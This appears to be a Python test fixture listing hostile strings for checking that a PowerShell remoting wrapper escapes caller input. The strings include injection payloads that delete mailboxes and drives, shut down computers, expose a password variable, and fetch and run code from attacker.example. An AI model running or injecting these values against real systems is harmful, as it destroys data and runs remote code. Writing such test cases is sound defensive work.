"""Hostile strings: values a caller might pass that would run code if pasted into PowerShell text.

Each one is a plausible identity, path or filter value to a careless wrapper, and a command, an
expansion, a comment, a parameter or broken markup to PowerShell or CLIXML. None starts or ends with
whitespace: the identity wrappers strip their input (documented), and every other character must
arrive byte for byte.
"""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    # Quote break-outs: ASCII quotes, the smart quotes PowerShell also treats as quotes (U+2018/2019, U+201C/201D),
    # and the backtick.
    "alice'; Remove-Mailbox -Identity bob -Confirm:$false; '",
    'alice"; Stop-Computer -Force; "',
    "alice\u2019; Remove-Mailbox bob; \u2018",
    "alice\u201d; Stop-Computer; \u201c",
    "alice`; Remove-Mailbox bob",
    "`$env:PSBRIDGE_PASSWORD",
    # Expansion: subexpressions, arrays, hashtables, variables, the format operator.
    "$(Remove-Item C:\\ -Recurse)",
    "@(Get-Mailbox -ResultSize Unlimited)",
    "@{a=1}",
    "${function:Get-Secret}",
    "$env:USERPROFILE",
    "' + (Get-Credential) + '",
    "{0}' -f (Get-Date) + '{1}",
    # Statement separators and pipelines.
    "a;b|c&d",
    "alice && Remove-Mailbox bob",
    "alice || Stop-Service WinRM",
    "alice | Set-Mailbox -IsExchangeCloudManaged:$false",
    "line1\nline2\r\nline3",
    "alice\rRemove-Mailbox bob",
    "alice`nRemove-Mailbox bob",
    # Comments and here-strings.
    "alice # the rest is a comment",
    "<# block #> alice",
    "@'\nRemove-Mailbox bob\n'@",
    '@"\n$(Stop-Computer)\n"@',
    # Parameters smuggled into a value, and the stop-parsing token.
    "-Confirm:$false",
    "alice -WhatIf:$false -Force",
    "--% Remove-Mailbox bob",
    # OPATH fragments, wildcards, percent signs.
    "Name -like '*' -or Name -ne $null",
    "*",
    "[a-z]*",
    "100%",
    "%USERPROFILE%",
    # XML and CLIXML metacharacters, CLIXML's own _xHHHH_ escape, a CDATA end.
    "<S N='x'>&lt;xml&gt;</S>]]>",
    "<![CDATA[alice]]>",
    "_x0041__x000A_",
    # Control characters and invisible or reordering Unicode.
    "evil\x00nul",
    "\x07bell\x1b[31mred\x7f",
    "\u202eevil.ps1\u202dtxt",
    "\ufeffbom\u200bzero-width",
    # Paths and remote code.
    "\\\\attacker.example\\share\\payload.ps1",
    "C:\\Windows\\System32\\..\\..\\Temp",
    "Invoke-Expression 'Stop-Computer'",
    "iex (New-Object Net.WebClient).DownloadString('http://attacker.example/x')",
    # Longer than one PSRP fragment (32 KiB): the value is split across fragments on the wire.
    "A" * 70_000,
)
